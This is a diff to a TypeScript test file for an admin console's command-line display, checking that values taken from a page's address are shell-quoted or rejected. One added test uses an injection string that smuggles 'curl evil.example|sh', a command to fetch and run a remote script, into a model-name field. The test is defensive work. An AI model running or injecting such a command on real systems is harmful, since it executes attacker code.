@@ -1,6 +1,7 @@
 // The command that a page shows beside an act has the same effect on the command line as the act on the page.
 import { describe, expect, test } from "bun:test";
-import { commandLine } from "../../../console/core/command-line.ts";
+import { modelNamed } from "../../../console/core/clients.ts";
+import { commandLine, reportCommand } from "../../../console/core/command-line.ts";
 import { verbTable } from "../../../console/core/verb-table.ts";
 import { verbs } from "../../../src/admin/management/verbs.ts";
 import { shell } from "../cli/shell.ts";
@@ -69,5 +70,18 @@ describe("a command that a page shows", () => {
     expect(line("createKey", { organization: "acme", name: "it's $HOME" })).toBe(
       `sluice key create --org acme --name 'it'\\''s $HOME'`,
     );
+  });
+
+  test("has nothing of the page's address that a shell would carry out, since somebody else may have written it", () => {
+    const words = "x;curl evil.example|sh";
+    expect(reportCommand({ by: "model", organization: "acme", model: words })).toBe(
+      `sluice usage report --by model --model '${words}' --org acme`,
+    );
+    expect([words, "qwen/qwen3-32b", null].map((named) => modelNamed(named, null))).toEqual([
+      null,
+      "qwen/qwen3-32b",
+      null,
+    ]);
+    expect([words, "b"].map((named) => modelNamed(named, ["a", "b"]))).toEqual([null, "b"]);
   });
 });
